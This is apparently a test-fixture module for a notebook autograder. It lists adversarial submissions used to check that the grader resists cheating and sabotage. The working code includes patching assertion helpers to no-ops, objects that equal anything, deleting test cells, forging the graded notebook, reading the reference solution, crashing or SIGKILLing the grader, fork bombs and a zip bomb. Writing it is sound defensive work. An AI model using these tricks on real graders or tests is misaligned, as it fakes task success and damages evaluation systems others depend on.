"""Attack submissions: ways a student's code could try to buy points or harm the grader.

Every attack starts from the same honest submission of notebook 1 (the reference with
one mistake: `matvec_dW_transposed`, which fails test_1_4_matvec_l2) and adds one attack.
An attack is defeated when the submission scores no more than the honest one, harms no
other submission, finishes within its limits, and grading records it: a tampering flag on
the notebook, the failure the sandbox reported, or a test failed for what it tried.

Some attacks act only when the grader calls the student's functions (in the trusted
worker, recognised by the wire module it imports): the notebook's own run sees honest code.
"""
from __future__ import annotations

import copy
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output
from numpy.lib import format as npy

NOTEBOOK = "1_computational_graphs.ipynb"
TARGET = "task_1_4_matvec_l2"   # the answer cell the attacks add their code to
TESTED = "test_1_4_matvec_l2"   # the test the honest submission fails


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    edit: Callable[[NotebookNode], None]   # changes the honest notebook in place
    traces: tuple[str, ...]                # what grading must record: "flag" (a review flag), failure kinds
    companions: tuple[str, ...] = ()       # other notebooks of the honest submission sent along
    message: str = ""                      # a phrase a failed test's message must hold
    folder: Callable[[Path], None] | None = None   # changes the submission folder (after the notebooks are written)


def cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def append_to_answer(code: str) -> Callable[[NotebookNode], None]:
    def edit(notebook):
        cell(notebook, TARGET).source += "\n\n" + code
    return edit


def prepend_to_answer(code: str) -> Callable[[NotebookNode], None]:
    def edit(notebook):
        cell(notebook, TARGET).source = code + "\n\n" + cell(notebook, TARGET).source
    return edit


def delete_test(notebook):
    notebook.cells.remove(cell(notebook, TESTED))


def blank_test(notebook):
    cell(notebook, TESTED).source = 'print("All tests passed!")'


def duplicate_and_move_test(notebook):
    test = cell(notebook, TESTED)
    notebook.cells.remove(test)
    notebook.cells.insert(0, test)
    notebook.cells.append(copy.deepcopy(test))


def demote_test(notebook):
    cell(notebook, TESTED).metadata["nbgrader"].update(grade=False, points=0)


# Replaces the checks both in the helper package and under the names the test cells use.
PATCH_CHECKS = ("import nn_helpers.checks as _checks\n"
                "_checks.check_close = _checks.check_gradient = lambda *args, **kwargs: None\n"
                "check_close = check_gradient = _checks.check_close")


def extra_patch_cell(notebook):
    index = notebook.cells.index(cell(notebook, TESTED))
    notebook.cells.insert(index, new_code_cell(PATCH_CHECKS))


# The result file a daemon tries to forge: the executed notebook nbgrader writes for grading.
FORGE = '''import json, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        target = os.path.join(os.getcwd(), "{name}")
        for _ in range(600):
            time.sleep(0.5)
            try:
                notebook = json.load(open(target))
            except Exception:
                continue
            for c in notebook["cells"]:
                c["outputs"] = [o for o in c.get("outputs", []) if o.get("output_type") != "error"]
            json.dump(notebook, open(target, "w"))
    os._exit(0)
'''.format(name=NOTEBOOK)

# nbgrader runs a notebook in <scratch course>/autograded/<student>/<assignment>/; the source is next door.
STEAL = '''import json, os
_source = os.path.join("..", "..", "..", "solutions", "two_layer_net", "{name}")
if os.path.exists(_source):
    for _cell in json.load(open(_source))["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "{target}":
            exec("".join(_cell["source"]))
'''.format(name=NOTEBOOK, target=TARGET)

IN_GRADER = '"autograder.trusted.wire" in _sys.modules'   # true only in the grader's worker

# Claims to be an array of a million floats at address 8: np.asarray on it in the grader read
# that memory and killed the grading process (SIGSEGV), and with it its classmates' grades.
ARRAY_INTERFACE = '''import sys as _sys


class _Memory:
    def __init__(self):
        self.shape = (1000000,)
        self.__array_interface__ = {{"shape": (1000000,), "typestr": "<f8", "data": (8, False), "version": 3}}


_honest_circuit = sigmoid_circuit


def sigmoid_circuit(w, x):
    f, dw, dx = _honest_circuit(w, x)
    return (f, _Memory(), dx) if {in_grader} else (f, dw, dx)
'''.format(in_grader=IN_GRADER)

# The same object, sent by a worker whose own refusal to send it was switched off.
FORGED_REPLY = ARRAY_INTERFACE + '''
if {in_grader}:
    import autograder.trusted.wire as _wire
    _wire._plain_name = lambda key: True
'''.format(in_grader=IN_GRADER)

# From the grader's call, signal every process it can see, its parent first.
KILL_GRADER = '''import os, signal, sys as _sys

_honest_add = add_gate


def add_gate(x, y):
    if {in_grader}:
        for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    return _honest_add(x, y)
'''.format(in_grader=IN_GRADER)

EXIT_IN_GRADER = '''import os as _os, sys as _sys

_honest_add = add_gate


def add_gate(x, y):
    if {in_grader}:
        _os._exit(0)
    return _honest_add(x, y)
'''.format(in_grader=IN_GRADER)

# Every function sleeps when the grader calls it: each test would use its whole limit.
SLEEP_IN_GRADER = '''import sys as _sys, time as _time

if {in_grader}:
    def _asleep(function):
        def wrapper(*args, **kwargs):
            _time.sleep(1000)
        return wrapper

    for _name in ("add_gate", "add_gate_backward", "mul_gate", "mul_gate_backward", "max_gate",
                  "max_gate_backward", "simple_graph", "sigmoid_circuit", "matvec_l2"):
        globals()[_name] = _asleep(globals()[_name])
'''.format(in_grader=IN_GRADER)

# Two arrays of 40 MiB each: a reply over the 64 MiB a frame to the grader may hold.
HUGE_REPLY = '''import sys as _sys

_honest_mul = mul_gate


def mul_gate(x, y):
    if {in_grader}:
        return np.ones(5 * 2 ** 20), np.ones(5 * 2 ** 20)
    return _honest_mul(x, y)
'''.format(in_grader=IN_GRADER)


def sparse_file(folder: Path) -> None:
    """A 2 GiB file of nothing next to the notebooks (it takes no disk: it is sparse)."""
    with open(folder / "weights.bin", "wb") as handle:
        handle.truncate(2 * 2 ** 30)


def oversize_notebook(megabytes: int = 20) -> Callable[[NotebookNode], None]:
    """An output of `megabytes` MB stored in the notebook (20: over the notebook limit, under the folder's)."""
    def edit(notebook):
        cell(notebook, TARGET).outputs = [new_output("stream", name="stdout", text="x" * (megabytes * 10 ** 6))]
    return edit


def write_npz_bomb(path: Path, member_bytes: int = 2 * 2 ** 30, declared: tuple[int, ...] | None = None,
                   level: int = 9) -> Path:
    """A saved model whose b1 decompresses to `member_bytes` (2 GiB: the file is about 2 MB at level 9), its
    header declaring `declared` (default: all of it, as float32); W1, W2 and b2 are small and right."""
    rng = np.random.default_rng(0)
    params = {"W1": rng.standard_normal((3072, 50)).astype(np.float32), "W2": np.zeros((50, 10), np.float32),
              "b2": np.zeros(10, np.float32)}
    shape = declared if declared is not None else ((member_bytes - 128) // 4,)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for key, value in params.items():
            with archive.open(f"{key}.npy", "w") as member:
                npy.write_array(member, value)
        with archive.open("b1.npy", "w", force_zip64=True) as member:
            npy.write_array_header_1_0(member, {"descr": "<f4", "fortran_order": False, "shape": shape})
            left = member_bytes - 128
            while left > 0:
                member.write(bytes(min(left, 2 ** 24)))
                left -= 2 ** 24
    return path


ATTACKS = (
    Attack("patch_allclose", "np.allclose always says True (the attack nbgrader falls for)",
           append_to_answer("np.allclose = lambda *args, **kwargs: True"), traces=("flag",)),
    Attack("patch_numpy_max", "np.max always returns 0 (measured: the wrong dW still fails its test)",
           append_to_answer("np.max = lambda *args, **kwargs: 0.0"), traces=("flag",)),
    Attack("patch_checks", "an answer cell replaces the checks of nn_helpers with no-ops",
           append_to_answer(PATCH_CHECKS), traces=("flag",)),
    Attack("extra_patch_cell", "a cell of the student's own, just before the test, replaces the checks",
           extra_patch_cell, traces=("flag",)),
    Attack("always_equal", "dW is an object that equals anything",
           append_to_answer("class Anything:\n    def __eq__(self, other):\n        return True\n\n"
                            "_honest = matvec_l2\nmatvec_l2 = lambda W, x: (_honest(W, x)[0], Anything(), _honest(W, x)[2])"),
           traces=("flag",)),
    Attack("doctored_ndarray", "dW is an ndarray subclass whose arithmetic and comparisons always agree",
           append_to_answer("class Agreeable(np.ndarray):\n"
                            "    def __sub__(self, other):\n        return np.zeros(np.shape(other))\n"
                            "    def __eq__(self, other):\n        return np.ones(np.shape(other), bool)\n\n"
                            "_honest = matvec_l2\n"
                            "matvec_l2 = lambda W, x: (_honest(W, x)[0], _honest(W, x)[1].view(Agreeable), _honest(W, x)[2])"),
           traces=("flag",)),
    Attack("fake_output", "the answer prints that every test passed",
           append_to_answer('print("All tests passed! 10/10")'), traces=("flag",)),
    Attack("delete_test", "the failing test cell is deleted", delete_test, traces=("flag",)),
    Attack("blank_test", "the failing test cell is replaced by a print", blank_test, traces=("flag",)),
    Attack("duplicate_and_move_test", "the test cell is moved to the top and duplicated at the end",
           duplicate_and_move_test, traces=("flag",)),
    Attack("demote_test", "the test cell's metadata says it is worth nothing and is not graded",
           demote_test, traces=("flag",)),
    Attack("loop_after_definition", "an endless loop after the functions are defined",
           append_to_answer("while True:\n    pass"), traces=("timeout",)),
    Attack("exhaust_memory", "allocates 4 GB, then more",
           append_to_answer("hoard = [bytearray(2 ** 30) for _ in range(64)]"), traces=("memory",)),
    Attack("fork_bomb", "starts processes until something gives",
           append_to_answer("import subprocess\nkids = [subprocess.Popen(['sleep', '30']) for _ in range(2000)]"),
           traces=("sandbox", "flag")),
    Attack("phone_home", "sends its answers over the network",
           append_to_answer("import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=5)"),
           traces=("sandbox", "flag")),
    Attack("kill_everything", "kills every process it can",
           prepend_to_answer("import os, signal\nos.kill(-1, signal.SIGKILL)"), traces=("error", "flag")),
    Attack("steal_reference", "reads the reference solution from the grading course and runs it",
           append_to_answer(STEAL), traces=("flag",)),
    Attack("forge_result_file", "a daemon rewrites the executed notebook to drop every error",
           prepend_to_answer(FORGE), traces=("flag",),
           companions=("2_layers.ipynb",)),  # keeps nbgrader busy after notebook 1 is written
    Attack("segfault_array_interface", "in the grader's calls, sigmoid_circuit returns an object whose "
           "__array_interface__ points at address 8 (it crashed the grading process)",
           append_to_answer(ARRAY_INTERFACE), traces=(), message="__array_interface__"),
    Attack("forged_array_reply", "the same object, sent by a worker whose own check is switched off",
           append_to_answer(FORGED_REPLY), traces=("sandbox",), message="broke the protocol"),
    Attack("kill_grader", "in the grader's calls, SIGKILL to its parent and every process it can see",
           append_to_answer(KILL_GRADER), traces=("flag",)),
    Attack("exit_in_grader_calls", "in the grader's calls, os._exit(0)",
           append_to_answer(EXIT_IN_GRADER), traces=("sandbox",), message="ended the worker (exit code 0)"),
    Attack("sleep_in_grader_calls", "every function sleeps 1000 s when the grader calls it",
           append_to_answer(SLEEP_IN_GRADER), traces=("timeout",), message="the grader's budget"),
    Attack("huge_reply", "in the grader's calls, mul_gate returns two 40 MiB arrays",
           append_to_answer(HUGE_REPLY), traces=("sandbox",), message="larger than the 67108864 bytes a frame may hold"),
    Attack("sparse_file", "a 2 GiB sparse file next to the notebooks", lambda notebook: None,
           traces=("unreadable",), folder=sparse_file),
    Attack("oversize_notebook", "a 20 MB notebook (an output kept in it)", oversize_notebook(), traces=("unreadable",)),
)
